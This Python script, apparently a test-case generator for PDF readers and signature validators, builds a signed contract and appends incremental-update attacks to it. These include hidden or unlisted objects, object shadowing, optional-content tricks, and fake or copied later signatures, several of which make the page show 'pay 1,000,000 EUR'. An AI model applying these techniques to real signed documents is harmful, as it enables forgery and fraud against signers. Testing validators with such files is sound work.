#!/usr/bin/env python3
"""A one-page contract and incremental updates appended to a signed copy of it:
updates that readers resolve otherwise than the signed revision or that change
what they show, and one that only gives the document information new text; and later
signature fields whose contents verify over nothing.

  reader_attacks.py contract FORM OUT            writes the unsigned contract
  reader_attacks.py update NAME SECTION IN OUT [NAME SECTION IN OUT ...]
                                                 appends update NAME to the signed IN

FORM is "table" (classic cross-reference tables) or "stream" (object streams
and cross-reference streams). SECTION is the form of the update's own
cross-reference section: "table", "stream", "compressed" (a stream with the
Flate filter and PNG predictor) or "hybrid" (a table whose /XRefStm names a
stream that lists the objects). The contract's page says "Contract: pay" and
draws two form XObjects: /Amount ("100 EUR"), whose /OC names object 12, and
/Stamp, whose own resources name the XObject 11. Neither 11 nor 12 exists,
and the trailer's /Size leaves both numbers free.
"""
import functools
import re
import subprocess
import sys
import zlib

HIDDEN_OCG = 8
PAGE, CONTENT, STAMP, STAMP_INNER, AMOUNT_OC = 3, 4, 6, 11, 12


def stream(entries, data):
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def text(words, x=72, y=760):
    return b"BT /F1 18 Tf %d %d Td (%s) Tj ET" % (x, y, words)


CONTRACT = {
    1: b"<< /Type /Catalog /Pages 2 0 R /OCProperties << /OCGs [ 8 0 R ] /D << /OFF [ 8 0 R ] >> >> >>",
    2: b"<< /Type /Pages /Kids [ 3 0 R ] /Count 1 >>",
    3: b"<< /Type /Page /Parent 2 0 R /MediaBox [ 0 0 595 842 ] /Resources << /Font << /F1 5 0 R >> "
       b"/XObject << /Amount 7 0 R /Stamp 6 0 R >> >> /Contents 4 0 R >>",
    4: stream(b"", text(b"Contract: pay") + b" q /Amount Do Q q /Stamp Do Q"),
    5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    6: stream(b"/Type /XObject /Subtype /Form /BBox [ 0 0 595 842 ] /Resources << /XObject << /Inner 11 0 R >> >>",
              b"q /Inner Do Q"),
    7: stream(b"/Type /XObject /Subtype /Form /BBox [ 0 0 595 842 ] /OC 12 0 R /Resources << /Font << /F1 5 0 R >> >>",
              text(b"100 EUR", 200)),
    8: b"<< /Type /OCG /Name (Draft) >>",
    9: b"<< /Producer (Contracts 1.0) /Title (Contract) >>",
}
CONTRACT_SIZE = 13


def png_up(rows):
    """Rows of equal length behind the PNG "Up" predictor, each with its filter byte."""
    out, previous = b"", bytes(len(rows[0]))
    for row in rows:
        out += b"\x02" + bytes((a - b) % 256 for a, b in zip(row, previous))
        previous = row
    return out


def xref_stream(number, rows, size, prev, root, info, widths=(1, 4, 1), compressed=False):
    """A cross-reference stream object: rows are (number, type, field2, field3)."""
    rows = sorted(rows)
    index, packed = [], []
    for num, kind, two, three in rows:
        if index and index[-2] + index[-1] == num:
            index[-1] += 1
        else:
            index += [num, 1]
        packed.append(b"".join(v.to_bytes(w, "big") for v, w in zip((kind, two, three), widths)))
    data = b"".join(packed)
    entries = b"/Type /XRef /Size %d /W [ %d %d %d ] /Index [ %s ] /Root %d 0 R" % (
        (size,) + tuple(widths) + (b" ".join(b"%d" % i for i in index), root))
    if compressed:
        data = zlib.compress(png_up(packed))
        entries += b" /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns %d >>" % sum(widths)
    if info:
        entries += b" /Info %d 0 R" % info
    if prev is not None:
        entries += b" /Prev %d" % prev
    return b"%d 0 obj\n" % number + stream(entries, data) + b"\nendobj\n"


def object_stream(members):
    """The dictionary entries and data of an object stream holding members (number, body) in order."""
    head, body = b"", b""
    for num, text_ in members:
        head += b"%d %d " % (num, len(body))
        body += text_ + b"\n"
    return b"/Type /ObjStm /N %d /First %d" % (len(members), len(head)), head + body


class Update:
    """The bytes of one update appended to base: objects, then the section."""

    def __init__(self, base):
        self.bytes = bytearray(base)
        self.prev = int(re.findall(rb"startxref\s+(\d+)", base)[-1])
        section = base[self.prev:self.prev + 4096]
        self.size = int(re.search(rb"/Size (\d+)", section).group(1))
        self.info = int(re.search(rb"/Info (\d+) 0 R", section).group(1))
        self.rows = []  # (number, type, field2, field3)

    def new(self):
        self.size += 1
        return self.size - 1

    def add(self, number, body, generation=0, listed=True):
        if not self.bytes.endswith(b"\n"):
            self.bytes += b"\n"
        at = len(self.bytes)
        self.bytes += b"%d %d obj\n%s\nendobj\n" % (number, generation, body)
        if listed:
            self.rows.append((number, 1, at, generation))
        return at

    def add_object_stream(self, members, rows_for):
        """An object stream of members; rows_for(number, index) says which get rows."""
        number = self.new()
        entries, data = object_stream(members)
        self.add(number, stream(entries, data))
        for index, (num, _) in enumerate(members):
            if rows_for(num, index):
                self.rows.append((num, 2, number, index))

    def finish(self, section, widths=(1, 4, 1)):
        """Appends the cross-reference section, listing the rows gathered, then the tail."""
        at = len(self.bytes)
        if section == "table":
            self.bytes += b"xref\n0 1\n0000000000 65535 f\r\n"
            for num, _, offset, generation in sorted(self.rows):
                self.bytes += b"%d 1\n%010d %05d n\r\n" % (num, offset, generation)
            self.bytes += b"trailer\n<< /Size %d /Root 1 0 R /Info %d 0 R /Prev %d >>\n" % (
                self.size, self.info, self.prev)
        else:
            number = self.new()
            self.bytes += xref_stream(number, self.rows + [(number, 1, at, 0)], self.size, self.prev, 1, self.info,
                                      widths, section != "stream")
            if section == "hybrid":
                table = len(self.bytes)
                self.bytes += b"xref\n0 1\n0000000000 65535 f\r\ntrailer\n<< /Size %d /Root 1 0 R /Info %d 0 R " \
                              b"/Prev %d /XRefStm %d >>\n" % (self.size, self.info, self.prev, at)
                at = table
        self.bytes += b"startxref\n%d\n%%%%EOF\n" % at
        return bytes(self.bytes)


@functools.lru_cache(maxsize=None)
def show(path, number):
    """The text of object number in the newest revision of path, as qpdf reads it."""
    return subprocess.run(["qpdf", "--show-object=%d" % number, path], check=True,
                          capture_output=True).stdout.strip()


def gaining(array_key, holder, item):
    """holder's text with item appended to the array under array_key (created when missing)."""
    pattern = re.escape(array_key) + rb" \[([^\]]*)\]"
    if re.search(pattern, holder):
        return re.sub(pattern, lambda m: array_key + b" [" + m.group(1) + b" %d 0 R ]" % item, holder, count=1)
    return holder[:-2] + array_key + b" [ %d 0 R ] >>" % item


def contract(form, out):
    if form == "table":
        pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        offsets = {}
        for num, body in CONTRACT.items():
            offsets[num] = len(pdf)
            pdf += b"%d 0 obj\n%s\nendobj\n" % (num, body)
        at = len(pdf)
        pdf += b"xref\n0 %d\n0000000000 65535 f\r\n" % (max(CONTRACT) + 1)
        for num in sorted(CONTRACT):
            pdf += b"%010d 00000 n\r\n" % offsets[num]
        pdf += b"trailer\n<< /Size %d /Root 1 0 R /Info 9 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (CONTRACT_SIZE, at)
    else:
        pdf = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        rows = []
        plain = [(n, b) for n, b in CONTRACT.items() if not b.endswith(b"endstream")]
        for num, body in CONTRACT.items():
            if body.endswith(b"endstream"):
                rows.append((num, 1, len(pdf), 0))
                pdf += b"%d 0 obj\n%s\nendobj\n" % (num, body)
        holder = CONTRACT_SIZE
        entries, data = object_stream(plain)
        rows.append((holder, 1, len(pdf), 0))
        pdf += b"%d 0 obj\n%s\nendobj\n" % (holder, stream(entries, data))
        rows += [(num, 2, holder, i) for i, (num, _) in enumerate(plain)]
        at = len(pdf)
        rows.append((holder + 1, 1, at, 0))
        pdf += xref_stream(holder + 1, rows, holder + 2, None, 1, 9, compressed=True)
        pdf += b"startxref\n%d\n%%%%EOF\n" % at
    with open(out, "wb") as f:
        f.write(pdf)


NEW_CONTENT = stream(b"", text(b"Contract: pay 1,000,000 EUR"))
COVER = b"1 1 1 rg 60 740 400 50 re f 0 g " + text(b"Contract: pay 1,000,000 EUR")
COVERING_STAMP = stream(b"/Type /XObject /Subtype /Form /BBox [ 0 0 595 842 ] /Resources << /Font << /F1 5 0 R >> >>",
                        COVER)


UNSET_RANGE = b"/ByteRange [ 0 0000000000 0000000000 0000000000 ]"


def later_signature(u, path, digits):
    """A signature field listed last in /Fields, its widget painting over the page, whose value holds digits
    as /Contents and a /ByteRange that spanning() sets to span the whole file."""
    field, value, look = u.new(), u.new(), u.new()
    u.add(look, COVERING_STAMP)
    u.add(value, b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached /M (D:20250301090000Z) "
                 b"%s /Contents <%s> >>" % (UNSET_RANGE, digits))
    u.add(field, b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approval) /F 4 /Rect [ 0 0 595 842 ] /P 3 0 R "
                 b"/V %d 0 R /AP << /N %d 0 R >> >>" % (value, look))
    u.add(1, gaining(b"/Fields", show(path, 1), field))
    u.add(PAGE, gaining(b"/Annots", show(path, PAGE), field))


def spanning(data):
    """data with the unset /ByteRange framing the /Contents after it and reaching the end of the file."""
    at = data.rindex(UNSET_RANGE)
    a = data.index(b"<", at + len(UNSET_RANGE))
    b = data.index(b">", a) + 1
    numbers = b"/ByteRange [ 0 %010d %010d %010d ]" % (a, b, len(data) - b)
    return data[:at] + numbers + data[at + len(UNSET_RANGE):]


def update(name, section, path, out):
    with open(path, "rb") as f:
        u = Update(f.read())
    if name == "information":
        u.add(u.info, show(path, u.info).replace(b"(Contract)", b"(Contract, archived)"))
    elif name == "page-content":
        # The page's content replaced in a well-formed update: no reader is misled, but the page changed.
        u.add(CONTENT, NEW_CONTENT)
    elif name == "unlisted-object":
        # The update's only row names an object beyond every reader's range.
        at = u.add(CONTENT, NEW_CONTENT, listed=False)
        u.rows = [(99999999, 1, at, 0)]
    elif name == "unlisted-beside-listed":
        # Rows for the document information only; the stamp is redefined unlisted.
        u.add(u.info, show(path, u.info).replace(b"(Contract)", b"(Contract, archived)"))
        u.add(STAMP, COVERING_STAMP, listed=False)
    elif name == "object-in-stream-data":
        # A new stream nothing uses whose data begin, on lines of their own, another
        # stamp; the new stream's own "endstream" ends both.
        head = COVERING_STAMP[:COVERING_STAMP.rindex(b"\nendstream")]
        u.add(u.new(), stream(b"", b"%% notes\n%d 0 obj\n%s" % (STAMP, head)))
    elif name == "row-past-end":
        u.add(CONTENT, NEW_CONTENT, listed=False)
        u.rows = [(CONTENT, 1, 9999999999, 0)]
    elif name == "object-stream-twice":
        # The page twice in one object stream: a new page drawing new content, then the original.
        content = u.new()
        u.add(content, NEW_CONTENT)
        page = show(path, PAGE)
        forged = re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % content, page)
        u.add_object_stream([(PAGE, forged), (PAGE, page)], lambda num, index: index == 0)
    elif name == "other-generation":
        u.add(CONTENT, NEW_CONTENT, generation=1)
    elif name == "unsigned-signature-widget":
        field, look = u.new(), u.new()
        u.add(look, COVERING_STAMP)
        u.add(field, b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Approval) /F 4 /Rect [ 0 0 595 842 ] "
                     b"/P 3 0 R /AP << /N %d 0 R >> >>" % look)
        u.add(1, gaining(b"/Fields", show(path, 1), field))
        u.add(PAGE, gaining(b"/Annots", show(path, PAGE), field))
    elif name == "unverified-signature":
        # 64 bytes that are no signature at all.
        later_signature(u, path, b"%0128x" % 0x5041590a31303030303030)
    elif name == "copied-signature":
        # The earlier signature's own contents, which verify over other bytes.
        later_signature(u, path, re.findall(rb"/Contents\s*<([0-9A-Fa-f]+)>", u.bytes)[0])
    elif name == "deep-shadow":
        u.add(STAMP_INNER, COVERING_STAMP)
    elif name == "hidden-by-later-oc":
        u.add(AMOUNT_OC, b"<< /Type /OCMD /OCGs [ %d 0 R ] /P /AllOn >>" % HIDDEN_OCG)
    else:
        raise SystemExit("unknown update " + name)
    widths = (1, 5, 1) if name == "row-past-end" else (1, 4, 1)
    data = u.finish(section, widths)
    with open(out, "wb") as f:
        f.write(spanning(data) if UNSET_RANGE in data else data)


def main(argv):
    if len(argv) == 4 and argv[1] == "contract":
        contract(argv[2], argv[3])
    elif len(argv) > 2 and len(argv) % 4 == 2 and argv[1] == "update":
        for i in range(2, len(argv), 4):
            update(*argv[i:i + 4])
    else:
        raise SystemExit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
